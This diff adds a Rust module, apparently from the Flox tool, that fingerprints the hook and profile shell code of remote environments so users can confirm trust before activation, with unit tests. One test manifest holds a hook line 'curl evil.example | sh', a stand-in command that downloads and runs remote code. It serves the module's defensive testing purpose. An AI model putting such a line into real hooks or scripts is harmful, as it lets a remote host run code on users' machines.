@@ -0,0 +1,340 @@
+//! Trust decisions for the shell code contained in environments
+//! that were not created locally, i.e. pulled or remote environments.
+//!
+//! The `hook` and `profile` sections of a manifest are executed
+//! when an environment is activated.
+//! Before activating such an environment for the first time,
+//! or after its hook content changed, the user should confirm that they trust it.
+//! Trust decisions are recorded per environment as a fingerprint of that content.
+
+use std::collections::BTreeMap;
+use std::fs::File;
+use std::io::{BufReader, BufWriter};
+use std::path::{Path, PathBuf};
+
+use fslock::LockFile;
+use serde::{Deserialize, Serialize};
+use tracing::debug;
+
+use super::environment_ref::EnvironmentRef;
+use crate::data::Version;
+use crate::flox::Flox;
+use crate::utils::traceable_path;
+
+pub const HOOK_TRUST_FILENAME: &str = "trusted-hooks.json";
+
+/// Manifest sections containing shell code that is run on activation
+const HOOK_SECTIONS: [&str; 2] = ["hook", "profile"];
+
+/// Errors encountered while interacting with the hook trust store.
+#[derive(Debug, thiserror::Error)]
+pub enum HookTrustError {
+    #[error("couldn't parse manifest")]
+    ParseManifest(#[source] toml::de::Error),
+    #[error("couldn't acquire hook trust file lock")]
+    AcquireLock(#[source] fslock::Error),
+    #[error("couldn't open hook trust file")]
+    OpenTrustStore(#[source] std::io::Error),
+    #[error("couldn't parse hook trust file")]
+    ParseTrustStore(#[source] serde_json::Error),
+    #[error("failed to open temporary file for hook trust store")]
+    OpenTmpTrustStore(#[source] std::io::Error),
+    #[error("failed to write temporary hook trust file")]
+    WriteTmpTrustStore(#[source] serde_json::Error),
+    #[error("failed to rename temporary hook trust file")]
+    RenameTrustStore(#[source] tempfile::PersistError),
+    #[error("hook trust file stored in an invalid location: {0}")]
+    InvalidTrustStoreLocation(PathBuf),
+}
+
+/// A fingerprint of the activation shell code of a manifest
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct HookFingerprint(String);
+
+impl HookFingerprint {
+    /// Compute the fingerprint of the `hook` and `profile` sections of a manifest.
+    ///
+    /// Returns `None` if the manifest does not contain any activation code.
+    pub fn from_manifest(manifest_contents: &str) -> Result<Option<Self>, HookTrustError> {
+        let manifest: toml::Table =
+            toml::from_str(manifest_contents).map_err(HookTrustError::ParseManifest)?;
+
+        // [toml::Table] is ordered by key,
+        // so formatting the sections is independent of their order in the manifest.
+        let sections = HOOK_SECTIONS
+            .iter()
+            .filter_map(|section| Some((*section, manifest.get(*section)?)))
+            .filter(|(_, value)| !value.as_table().is_some_and(toml::Table::is_empty))
+            .collect::<BTreeMap<_, _>>();
+
+        if sections.is_empty() {
+            return Ok(None);
+        }
+
+        let mut hasher = blake3::Hasher::new();
+        for (section, value) in sections {
+            hasher.update(section.as_bytes());
+            hasher.update(value.to_string().as_bytes());
+        }
+        Ok(Some(HookFingerprint(
+            hasher.finalize().to_hex().to_string(),
+        )))
+    }
+}
+
+/// The trust state of the activation code of an environment
+#[derive(Debug, Clone, PartialEq)]
+pub enum HookTrust {
+    /// The environment does not contain any activation code
+    NoHooks,
+    /// The user previously trusted exactly this activation code
+    Trusted,
+    /// The user never trusted activation code of this environment
+    Untrusted,
+    /// The user trusted different activation code of this environment before
+    Changed,
+}
+
+impl HookTrust {
+    /// Whether the user should confirm the activation code before activating
+    pub fn requires_confirmation(&self) -> bool {
+        matches!(self, HookTrust::Untrusted | HookTrust::Changed)
+    }
+}
+
+/// Trusted hook fingerprints, keyed by environment reference
+#[derive(Debug, Clone, Serialize, Deserialize, Default, PartialEq)]
+pub struct HookTrustStore {
+    /// The schema version of the hook trust file.
+    pub version: Version<1>,
+    pub trusted: BTreeMap<String, HookFingerprint>,
+}
+
+impl HookTrustStore {
+    /// Determine whether the activation code in `manifest_contents` is trusted
+    /// for the environment `env_ref`.
+    pub fn check(
+        &self,
+        env_ref: &EnvironmentRef,
+        manifest_contents: &str,
+    ) -> Result<HookTrust, HookTrustError> {
+        let Some(fingerprint) = HookFingerprint::from_manifest(manifest_contents)? else {
+            return Ok(HookTrust::NoHooks);
+        };
+
+        let trust = match self.trusted.get(&env_ref.to_string()) {
+            Some(trusted) if *trusted == fingerprint => HookTrust::Trusted,
+            Some(_) => HookTrust::Changed,
+            None => HookTrust::Untrusted,
+        };
+        Ok(trust)
+    }
+
+    /// Record the activation code in `manifest_contents` as trusted for `env_ref`,
+    /// replacing any previous trust decision for that environment.
+    pub fn trust(
+        &mut self,
+        env_ref: &EnvironmentRef,
+        manifest_contents: &str,
+    ) -> Result<(), HookTrustError> {
+        match HookFingerprint::from_manifest(manifest_contents)? {
+            Some(fingerprint) => {
+                self.trusted.insert(env_ref.to_string(), fingerprint);
+            },
+            None => {
+                self.trusted.remove(&env_ref.to_string());
+            },
+        }
+        Ok(())
+    }
+
+    /// Forget the trust decision for `env_ref`
+    pub fn revoke(&mut self, env_ref: &EnvironmentRef) -> Option<HookFingerprint> {
+        self.trusted.remove(&env_ref.to_string())
+    }
+}
+
+/// Returns the path to the user's hook trust file.
+pub fn hook_trust_path(flox: &Flox) -> PathBuf {
+    flox.data_dir.join(HOOK_TRUST_FILENAME)
+}
+
+/// Returns the path to the user's hook trust lock file.
+fn hook_trust_lock_path(flox: &Flox) -> PathBuf {
+    hook_trust_path(flox).with_extension("lock")
+}
+
+/// Opens and locks the user's hook trust lock file,
+/// blocking until other processes modifying the store release it.
+fn acquire_hook_trust_lock(flox: &Flox) -> Result<LockFile, HookTrustError> {
+    let mut lock = LockFile::open(hook_trust_lock_path(flox).as_os_str())
+        .map_err(HookTrustError::AcquireLock)?;
+    lock.lock().map_err(HookTrustError::AcquireLock)?;
+    Ok(lock)
+}
+
+/// Returns the parsed hook trust file or an empty store if it doesn't yet exist.
+pub fn read_hook_trust_store(path: impl AsRef<Path>) -> Result<HookTrustStore, HookTrustError> {
+    let path = path.as_ref();
+    if !path.exists() {
+        debug!(path = traceable_path(&path), "hook trust file not found");
+        return Ok(HookTrustStore::default());
+    }
+    let f = File::open(path).map_err(HookTrustError::OpenTrustStore)?;
+    let reader = BufReader::new(f);
+    serde_json::from_reader(reader).map_err(HookTrustError::ParseTrustStore)
+}
+
+/// Writes the hook trust store to disk.
+///
+/// Like the environment registry, the store is written to a temporary file
+/// and renamed into place while holding the lock.
+fn write_hook_trust_store(
+    store: &HookTrustStore,
+    path: impl AsRef<Path>,
+    _lock: LockFile,
+) -> Result<(), HookTrustError> {
+    let path = path.as_ref();
+    let parent = path
+        .parent()
+        .ok_or(HookTrustError::InvalidTrustStoreLocation(
+            path.to_path_buf(),
+        ))?;
+    let temp_file =
+        tempfile::NamedTempFile::new_in(parent).map_err(HookTrustError::OpenTmpTrustStore)?;
+
+    let writer = BufWriter::new(&temp_file);
+    serde_json::to_writer_pretty(writer, store).map_err(HookTrustError::WriteTmpTrustStore)?;
+    temp_file
+        .persist(path)
+        .map_err(HookTrustError::RenameTrustStore)?;
+    Ok(())
+}
+
+/// Check whether the user trusts the activation code of `env_ref`
+pub fn check_hook_trust(
+    flox: &Flox,
+    env_ref: &EnvironmentRef,
+    manifest_contents: &str,
+) -> Result<HookTrust, HookTrustError> {
+    read_hook_trust_store(hook_trust_path(flox))?.check(env_ref, manifest_contents)
+}
+
+/// Record that the user trusts the current activation code of `env_ref`
+pub fn trust_hooks(
+    flox: &Flox,
+    env_ref: &EnvironmentRef,
+    manifest_contents: &str,
+) -> Result<(), HookTrustError> {
+    // Acquire the lock before reading the store so that we know there are no modifications while
+    // we're editing it.
+    let lock = acquire_hook_trust_lock(flox)?;
+    let path = hook_trust_path(flox);
+    let mut store = read_hook_trust_store(&path)?;
+    store.trust(env_ref, manifest_contents)?;
+    write_hook_trust_store(&store, &path, lock)
+}
+
+#[cfg(test)]
+mod test {
+    use indoc::indoc;
+
+    use super::*;
+    use crate::flox::test_helpers::flox_instance;
+
+    const MANIFEST_WITH_HOOK: &str = indoc! {r#"
+        version = 1
+
+        [hook]
+        on-activate = "echo hello"
+    "#};
+
+    const MANIFEST_WITH_CHANGED_HOOK: &str = indoc! {r#"
+        version = 1
+
+        [install]
+        hello.pkg-path = "hello"
+
+        [hook]
+        on-activate = "curl evil.example | sh"
+    "#};
+
+    fn env_ref() -> EnvironmentRef {
+        EnvironmentRef::new("owner", "name").unwrap()
+    }
+
+    #[test]
+    fn fingerprint_ignores_unrelated_sections() {
+        let with_install = indoc! {r#"
+            version = 1
+
+            [install]
+            hello.pkg-path = "hello"
+
+            [hook]
+            on-activate = "echo hello"
+        "#};
+        assert_eq!(
+            HookFingerprint::from_manifest(MANIFEST_WITH_HOOK).unwrap(),
+            HookFingerprint::from_manifest(with_install).unwrap()
+        );
+        assert_eq!(
+            HookFingerprint::from_manifest("version = 1\n[hook]\n").unwrap(),
+            None
+        );
+    }
+
+    #[test]
+    fn check_detects_untrusted_and_changed_hooks() {
+        let mut store = HookTrustStore::default();
+        assert_eq!(
+            store.check(&env_ref(), MANIFEST_WITH_HOOK).unwrap(),
+            HookTrust::Untrusted
+        );
+
+        store.trust(&env_ref(), MANIFEST_WITH_HOOK).unwrap();
+        assert_eq!(
+            store.check(&env_ref(), MANIFEST_WITH_HOOK).unwrap(),
+            HookTrust::Trusted
+        );
+        assert_eq!(
+            store.check(&env_ref(), MANIFEST_WITH_CHANGED_HOOK).unwrap(),
+            HookTrust::Changed
+        );
+        assert_eq!(
+            store.check(&env_ref(), "version = 1").unwrap(),
+            HookTrust::NoHooks
+        );
+    }
+
+    #[test]
+    fn trust_is_persisted() {
+        let (flox, _temp_dir_handle) = flox_instance();
+
+        trust_hooks(&flox, &env_ref(), MANIFEST_WITH_HOOK).unwrap();
+        assert_eq!(
+            check_hook_trust(&flox, &env_ref(), MANIFEST_WITH_HOOK).unwrap(),
+            HookTrust::Trusted
+        );
+    }
+
+    /// Concurrent trust decisions for different environments are all recorded
+    #[test]
+    fn concurrent_trust_is_not_lost() {
+        let (flox, _temp_dir_handle) = flox_instance();
+
+        std::thread::scope(|scope| {
+            for i in 0..8 {
+                let flox = &flox;
+                scope.spawn(move || {
+                    let env_ref = EnvironmentRef::new("owner", format!("name{i}")).unwrap();
+                    trust_hooks(flox, &env_ref, MANIFEST_WITH_HOOK).unwrap();
+                });
+            }
+        });
+
+        let store = read_hook_trust_store(hook_trust_path(&flox)).unwrap();
+        assert_eq!(store.trusted.len(), 8);
+    }
+}